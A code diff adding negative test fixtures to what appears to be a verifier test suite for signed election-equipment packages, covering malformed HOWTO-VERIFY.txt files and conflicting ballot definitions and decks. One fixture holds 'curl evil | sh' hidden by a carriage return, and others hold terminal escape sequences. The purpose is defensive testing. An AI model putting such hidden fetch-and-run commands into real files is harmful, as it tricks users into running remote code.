@@ -90,6 +90,18 @@ def lines(change):
 
 
 UNSIGNED = " So nothing that is signed has the digest of bag-info.txt, and the signer's role there is anybody's word: PKG-11 is undecided."
+def howto(data):
+    return lambda made: made.files.update({"HOWTO-VERIFY.txt": data})
+
+
+for name, why, data in (
+    ("howto-escape", "HOWTO-VERIFY.txt clears the terminal on which it is shown.", b"\x1b[2J\x1b[HAll is well.\n"),
+    ("howto-c1-control", "HOWTO-VERIFY.txt has a control character of two bytes, which some terminals obey.", "\u009b2J".encode()),
+    ("howto-carriage-return", "Lines that a carriage return hides from who looks at them on a terminal.", b"curl evil | sh\rsha256sum -c\n"),
+    ("howto-not-utf-8", "HOWTO-VERIFY.txt is not UTF-8.", b"\xff\xfe\n"),
+    ("howto-long", "HOWTO-VERIFY.txt has a byte more than 64 KiB.", b"x" * 65537),
+):
+    package(name, "PKG-02", why, howto(data))
 package("howto-changed", "PKG-03", "HOWTO-VERIFY.txt was changed after signing, to tell the reader to skip a step.",
         lambda made: made.replace("HOWTO-VERIFY.txt", "sha256sum -c --strict --quiet tagmanifest-sha256.txt", "true"), sealed=False)
 package("howto-not-listed", "PKG-03", "The tag manifest does not list HOWTO-VERIFY.txt.", tag_manifest(lines(lambda x: x[1:])), sealed=False)
@@ -253,6 +265,13 @@ def second(path, copy):
 package("two-definitions", "PKG-07", "A second ballot definition lies beside the one that the deck rests on.",
         second("data/ballot-definition.xml", "data/definition.xml"))
 package("two-decks-of-a-style", "PKG-07", "Two test decks for one ballot style: which of them is the deck that was run?", second("data/deck.xml", "data/deck-2.xml"))
+def supersedes_another_kind(made):
+    """The deck says that it replaces the ballot definition it rests on."""
+    made.files["data/deck.xml"] = made.files["data/deck.xml"].replace(
+        b"  </Header>", f'    <Supersedes SHA256="{digest(made.files["data/ballot-definition.xml"])}"/>\n  </Header>'.encode())
+
+
+package("supersedes-another-kind", "PKG-07", "A deck supersedes a ballot definition: one kind cannot replace another.", supersedes_another_kind)
 package("superseded", "PKG-07", "The package has a deck and a second one that replaces it.", superseded)
 package("definition-absent", "PKG-07", """The deck rests on a ballot definition that is not in the package. LAT-10 is undecided without it.""",
         no_definition, undecided=("LAT-10",))
